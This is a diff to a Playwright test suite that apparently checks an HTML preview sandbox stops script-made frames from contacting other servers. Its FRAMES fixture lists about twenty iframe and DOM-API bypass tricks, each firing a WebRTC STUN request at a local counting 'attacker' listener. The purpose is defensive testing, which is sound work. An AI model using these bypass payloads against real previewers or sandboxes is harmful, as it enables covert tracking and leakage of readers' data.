@@ -62,6 +62,52 @@ BY_CLICK = """<!doctype html><html><body><a id="one" href="http://{to}/link">her
 <form action="http://{to}/form"><input name="secret" value="words"><button id="six">go</button></form></body></html>"""
 
 
+# Frames that a script makes have their own WebRTC, if it gets one to run its words.
+FRAMES = """<!doctype html><html><body><p id="made"></p><p id="ran"></p><script>
+const CALL = "const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{stun}'}}]}}); c.createDataChannel('x');" +
+  "c.createOffer().then(o => c.setLocalDescription(o))";
+const INNER = "<script>" + CALL + "</" + "script>", QUOTED = INNER.replaceAll("<", "&lt;");
+const TAG = '<iframe srcdoc="' + INNER + '"></iframe>', XHTML = "http://www.w3.org/1999/xhtml";
+const made = () => document.createElement("iframe"), shown = one => document.body.append(one);
+const attribute = () => {{ const one = document.createAttribute("srcdoc"); one.value = INNER; return one }};
+const tries = [
+  () => {{ const one = made(); one.srcdoc = INNER; shown(one) }},
+  () => {{ const one = made(); one.setAttribute("srcdoc", INNER); shown(one) }},
+  () => {{ const one = made(); one.setAttributeNS(null, "srcdoc", INNER); shown(one) }},
+  () => {{ const one = made(); one.setAttributeNode(attribute()); shown(one) }},
+  () => {{ const one = made(); one.attributes.setNamedItem(attribute()); shown(one) }},
+  () => {{ const one = made(); one.setAttribute("srcdoc", ""); one.attributes.srcdoc.nodeValue = INNER; shown(one) }},
+  () => {{ const one = made(), from = document.createElement("div"); from.setAttribute("srcdoc", INNER);
+    const moved = from.getAttributeNode("srcdoc"); from.removeAttributeNode(moved); one.setAttributeNode(moved);
+    shown(one) }},
+  () => {{ const one = made(); one.src = "javascript:" + CALL; shown(one) }},
+  () => {{ const one = made(); one.src = "data:text/html," + INNER; shown(one) }},
+  () => {{ const one = made(); one.src = URL.createObjectURL(new Blob([INNER], {{type: "text/html"}})); shown(one) }},
+  () => {{ const one = made(); shown(one); one.contentWindow.eval(CALL) }},
+  () => {{ class Own extends HTMLIFrameElement {{}} customElements.define("x-i", Own, {{extends: "iframe"}});
+    const one = new Own(); one.setAttribute("srcdoc", INNER); shown(one) }},
+  () => {{ const other = document.implementation.createDocument(XHTML, "iframe", null).documentElement;
+    other.setAttribute("srcdoc", INNER); shown(document.adoptNode(other)) }},
+  () => document.body.insertAdjacentHTML("beforeend", TAG),
+  () => document.body.append(document.createRange().createContextualFragment(TAG)),
+  () => document.body.append(Document.parseHTMLUnsafe(TAG).querySelector("iframe")),
+  () => shown(document.adoptNode(new DOMParser().parseFromString(
+    '<h:iframe xmlns:h="' + XHTML + '" srcdoc="' + QUOTED + '"/>', "application/xhtml+xml").documentElement)),
+  () => {{ const own = trustedTypes.createPolicy("own", {{createHTML: html => html}}); const one = made();
+    one.srcdoc = own.createHTML(INNER); shown(one) }},
+  () => {{ const set = document.createElement("frameset"), one = document.createElement("frame");
+    one.src = "javascript:" + CALL; set.append(one); document.documentElement.append(set) }},
+  () => new (open("about:blank").RTCPeerConnection)(),
+  () => {{ String.prototype.includes = () => false; String.prototype.toLowerCase = () => "";
+    Function.prototype.call = () => false; document.body.insertAdjacentHTML("beforeend", TAG) }},
+];
+for (const attempt of tries) {{ try {{ attempt() }} catch {{}} }}
+document.getElementById("made").innerHTML = "<b>bold</b>";
+document.getElementById("ran").textContent = "ran";
+</script>{end}</body></html>"""
+PIECES = "<script>document.write('<ifr'); document.write('ame srcdoc=\"' + INNER + '\"></iframe>')</script>"
+
+
 @dataclass
 class Attacker(asyncio.DatagramProtocol):
     """Counts connections and datagrams; answers nothing."""
@@ -84,9 +130,10 @@ class Attacker(asyncio.DatagramProtocol):
 
     def datagram_received(self, data: bytes, address: object) -> None:
         self.asked.append("datagram")
+        self.came.set()
 
     def made(self, html: str) -> str:
-        return html.format(to=f"127.0.0.1:{self.port}", stun=f"127.0.0.1:{self.stun}")
+        return html.format(to=f"127.0.0.1:{self.port}", stun=f"127.0.0.1:{self.stun}", end=PIECES)
 
 
 @asynccontextmanager
@@ -199,3 +246,25 @@ async def test_what_the_frame_shows_is_not_opened_by_itself(chromium: Chromium, 
         async with opened(chromium, shown.at(f"previews/{NAME}/page?scripts=1")) as page:
             assert "words of the thread" not in await page.content()
         assert attacker.asked == []
+
+
+async def test_a_frame_that_a_script_makes_runs_nothing(chromium: Chromium, shown: Shown) -> None:
+    async with attacking() as attacker, attacking() as control:
+        shown.html = attacker.made(FRAMES)
+        async with opened(chromium, shown.at(f"previews/{NAME}?scripts=1")) as page:
+            frame = page.frames[1]
+            await expect(frame.locator("#ran")).to_have_text("ran")
+            await expect(frame.locator("#made b")).to_have_text("bold")  # what its scripts write otherwise stands
+            shown.html = control.made(FRAMES)
+            async with opened(chromium, shown.at("bare")), asyncio.timeout(PATIENCE_S):
+                await control.came.wait()
+            await expect(frame.locator("iframe[srcdoc]:not([srcdoc=''])")).to_have_count(0)
+        assert attacker.asked == []
+
+
+async def test_what_stays_possible_is_said_before_scripts_run(chromium: Chromium, shown: Shown) -> None:
+    shown.html = "<p>words</p>"
+    async with opened(chromium, shown.at(f"previews/{NAME}")) as page:
+        await expect(page.locator("small")).to_contain_text("may let another server know")
+    async with opened(chromium, shown.at(f"previews/{NAME}?scripts=1")) as page:
+        await expect(page.locator("small")).to_have_count(0)
